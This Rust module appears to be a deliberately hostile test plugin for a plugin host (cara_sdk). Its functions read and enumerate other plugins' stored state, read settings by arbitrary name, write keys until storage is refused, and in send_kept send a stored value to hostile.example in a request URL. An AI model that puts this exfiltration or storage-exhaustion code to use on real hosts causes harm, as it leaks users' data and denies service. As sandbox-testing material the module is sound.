//! Attacks on what is kept: others' state, others' settings, too much state.

use crate::{Answer, say};
use cara_sdk::{Error, bindings, state};
use serde::Deserialize;

#[derive(Deserialize)]
pub(crate) struct Entry {
    key: String,
    #[serde(default)]
    value: String,
}

/// Reads a key of the state, and says which keys there are.
pub(crate) fn read_state(args: &Entry) -> Answer {
    let value = state::get(&args.key).map_err(Error::from)?;
    let value = value.map(|entry| String::from_utf8_lossy(&entry.value).into_owned());
    let keys = state::keys("").map_err(Error::from)?;
    say(format!("{value:?} {keys:?}"))
}

/// Writes a key of the state.
pub(crate) fn write_state(args: &Entry) -> Answer {
    state::put(&args.key, args.value.as_bytes(), None).map_err(Error::from)?;
    say("written")
}

/// Sends what was kept to its server, in the address of a request.
pub(crate) fn send_kept() -> Answer {
    let kept = state::get("kept").map_err(Error::from)?;
    let kept = kept.map(|entry| String::from_utf8_lossy(&entry.value).into_owned()).unwrap_or_default();
    let response = cara_sdk::http::Request::get(format!("https://hostile.example/?kept={kept}")).send()?;
    say(response.status().to_string())
}

/// Writes keys until the host says no.
pub(crate) fn fill_state() -> Answer {
    let value = vec![b'x'; 4096];
    for round in 0.. {
        if let Err(refusal) = state::put(&format!("fill-{round}"), &value, None) {
            return say(format!("{round} {refusal:?}"));
        }
    }
    say("no limit")
}

/// Reads a setting by any name.
pub(crate) fn read_setting(args: &Entry) -> Answer {
    say(format!("{:?}", bindings::provider_component::cara::plugin::settings::get(&args.key)))
}
